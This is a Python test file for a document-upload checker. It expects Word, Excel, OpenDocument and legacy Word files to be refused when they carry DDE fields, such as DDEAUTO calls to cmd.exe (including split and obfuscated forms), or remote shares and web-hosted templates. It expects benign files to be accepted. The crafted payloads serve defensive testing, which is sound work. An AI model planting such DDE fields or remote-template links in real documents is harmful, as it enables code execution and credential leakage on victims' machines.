"""Office files that call a program or another machine when opened, and those that do not."""

from __future__ import annotations

import pytest

from tests.progress.files import office, ole, zipped_parts
from tracker.core.errors import RuleError
from tracker.evidence.files import media_type_of

WORD, WORD_KIND = "word/document.xml", "wordprocessingml.document"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
DDE, ELSEWHERE = "gọi chương trình khác", "tự tải nội dung từ nơi khác"
CALL = r"DDEAUTO c:\\windows\\system32\\cmd.exe"


def field(*pieces: str) -> str:
    """A field of Word with its words in pieces; a piece in braces is a field of its own."""
    code = "".join(
        field(piece[1:-1])
        if piece.startswith("{")
        else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in pieces
    )
    steps = [
        f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>' for step in ("begin", "separate", "end")
    ]
    return f"{steps[0]}{code}{steps[1]}<w:r><w:t>12</w:t></w:r>{steps[2]}"


def document(body: str, *, part: str = WORD) -> bytes:
    """A file of Word with these words in its text, or in another part."""
    content = f'<w:document xmlns:w="urn:word">{body}</w:document>'
    kept = content if part == WORD else "<a/>"
    parts = {"[Content_Types].xml": types(WORD, f"{WORD_KIND}.main+xml"), WORD: kept, part: content}
    return zipped_parts(parts)


def types(name: str, kind: str, *more: tuple[str, str]) -> str:
    """What the parts say they are."""
    told = "".join(
        f'<Override PartName="/{part}" '
        f'ContentType="application/vnd.openxmlformats-officedocument.{what}"/>'
        for part, what in ((name, kind), *more)
    )
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f"{told}</Types>"
    )


def workbook(link: str, part: str = "xl/externalLinks/externalLink1.xml") -> bytes:
    """A file of Excel that takes something from elsewhere."""
    kinds = types(
        "xl/workbook.xml", "spreadsheetml.sheet.main+xml", (part, "spreadsheetml.externalLink+xml")
    )
    parts = {"[Content_Types].xml": kinds, "xl/workbook.xml": "<a/>"}
    return zipped_parts({**parts, part: f'<externalLink xmlns="urn:sheet">{link}</externalLink>'})


def related(kind: str, target: str) -> bytes:
    """A file of Word whose text refers to something outside of it."""
    rels = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="urn:office/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return office(WORD, WORD_KIND, **{"word/_rels/document.xml.rels": rels})


def open_document(content: str) -> bytes:
    """A spreadsheet of OpenDocument."""
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    return zipped_parts({"mimetype": kind, "content.xml": content})


REFUSED = {
    "one field": (document(field(CALL)), DDE),
    "in pieces": (document(field(" dD", "e ", "cmd")), DDE),
    "simple": (document(f'<w:fldSimple w:instr="{CALL}"/>'), DDE),
    "in the footer": (document(field(CALL), part="word/footer1.xml"), DDE),
    "a part of another name": (document(field(CALL), part="a/b.xml"), DDE),
    "a name worked out": (document(field("{QUOTE 68 68 69}", " cmd")), DDE),
    "never ended": (document(field(CALL).rpartition("<w:r>")[0]), DDE),
    "a picture of a share": (
        document(field(r"INCLUDEPICTURE \\\\198.51.100.1\\a\\b.png")),
        ELSEWHERE,
    ),
    "a text of a share": (document(field('INCLUDETEXT "file://198.51.100.1/a.docx"')), ELSEWHERE),
    "Excel": (workbook('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), DDE),
    "Excel, other name": (workbook("<ddeLink/>", "xl/media/a.bin"), DDE),
    "a formula": (
        open_document('<t:c xmlns:t="urn:t" t:formula="of:=DDE(&quot;cmd&quot;;1)"/>'),
        DDE,
    ),
    "a link": (open_document('<o:dde-source xmlns:o="urn:o"/>'), DDE),
    "old Word": (ole("WordDocument", content=bytes(600) + b"\x13 DDEAUTO cmd \x14\x15"), DDE),
    "old Word, wide": (
        ole("WordDocument", content=bytes(600) + "\x13DDE cmd".encode("utf-16-le")),
        DDE,
    ),
    "a linked picture of a share": (related("image", r"\\198.51.100.1\a.png"), ELSEWHERE),
    "a linked picture, hidden": (related("image", "file:%5C%5C198.51.100.1/a.png"), ELSEWHERE),
    "a template of the web": (
        related("attachedTemplate", "https://198.51.100.1/a.dotm"),
        ELSEWHERE,
    ),
    "a template of a share": (
        related("attachedTemplate", "file:////198.51.100.1/a.dotm"),
        ELSEWHERE,
    ),
}
TAKEN = {
    "page numbers": document(field(" PAGE ") + field("=", "{NUMPAGES}", "-1")),
    "a word that begins so": document(field("DDEX") + "<w:r><w:t>DDEAUTO cmd</w:t></w:r>"),
    "a field only told of": document("<w:p><w:r><w:t>Trường DDE bị cấm</w:t></w:r></w:p>"),
    "a picture of a web page": document(field('INCLUDEPICTURE "https://ubnd.example/a.png" \\d')),
    "a file of the same machine": document(field(r'LINK Excel.Sheet "D:\\a.xlsx"')),
    "another workbook": workbook('<externalBook xmlns:r="urn:r" r:id="rId1"/>'),
    "a linked picture of the web": related("image", "https://ubnd.example/a.png"),
    "a link to click on": related("hyperlink", r"\\may-chu\ke-hoach.docx"),
    "the usual template": related("attachedTemplate", r"file:///C:\Users\an\Normal.dotm"),
    "a formula": open_document('<t:c xmlns:t="urn:t" t:formula="of:=SUM([.A1:.A9])"/>'),
    "old Word": ole("WordDocument", content=bytes(600) + b"\x13 PAGE \x14\x15 DDEAUTO cmd"),
}


@pytest.mark.parametrize(("content", "why"), REFUSED.values(), ids=REFUSED)
def test_what_opens_more_than_itself_is_refused(content: bytes, why: str) -> None:
    with pytest.raises(RuleError, match=why):
        media_type_of("bao-cao", content, max_megabytes=20)


@pytest.mark.parametrize("content", TAKEN.values(), ids=TAKEN)
def test_what_offices_write_is_taken(content: bytes) -> None:
    assert media_type_of("bao-cao", content, max_megabytes=20)
